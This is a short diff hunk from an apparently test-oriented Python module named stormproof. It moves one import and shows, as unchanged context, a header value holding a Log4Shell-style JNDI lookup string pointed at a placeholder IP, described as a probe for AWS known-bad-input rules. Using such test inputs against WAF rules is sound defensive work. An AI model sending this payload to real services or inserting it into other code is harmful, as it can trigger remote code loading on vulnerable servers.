@@ -12,9 +12,9 @@ from stormproof.core.stimuli import Stimulus
 from stormproof.stimuli.asking import Asked, Caused, ask
 from stormproof.stimuli.bench import Bench
 from stormproof.stimuli.doors import answered
+from stormproof.stimuli.routes import HEALTH
 from stormproof.stimuli.spreading import settled
 from stormproof.stimuli.traces import LONGEST_S
-from stormproof.stimuli.troubles import HEALTH
 
 LOOKUP = {"x-client": "${jndi:ldap://192.0.2.1/a}"}
 """What AWS's rules against known bad inputs are for; it leads nowhere, and without a key nowhere near a function:
